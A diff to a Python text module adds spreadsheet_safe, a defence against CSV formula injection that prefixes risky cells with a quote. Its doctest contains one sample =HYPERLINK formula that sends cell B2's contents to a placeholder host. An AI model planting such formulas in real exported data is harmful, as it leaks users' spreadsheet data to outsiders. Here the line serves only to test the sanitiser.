@@ -56,6 +56,8 @@ __all__ = [
     "decode_text",
     "read_text",
     "normalize_header",
+    "FORMULA_STARTS",
+    "spreadsheet_safe",
 ]
 
 #: The lock file a writer holds in a data folder.
@@ -761,3 +763,18 @@ def normalize_header(cells: Iterable[str]) -> list[str]:
     ['id', 'name']
     """
     return [c.strip().lstrip("\ufeff").strip().lower() for c in cells]
+
+
+#: What starts a formula in Excel, LibreOffice and Google Sheets (OWASP's list for CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_safe(text: str) -> str:
+    """Text a spreadsheet shows as text: a cell that would start a formula gets a leading ``'`` (OWASP's rule).
+
+    >>> print(spreadsheet_safe('=HYPERLINK("http://x.example/?"&B2,"潜江")'))
+    '=HYPERLINK("http://x.example/?"&B2,"潜江")
+    >>> spreadsheet_safe("潜江市"), spreadsheet_safe("-")
+    ('潜江市', "'-")
+    """
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
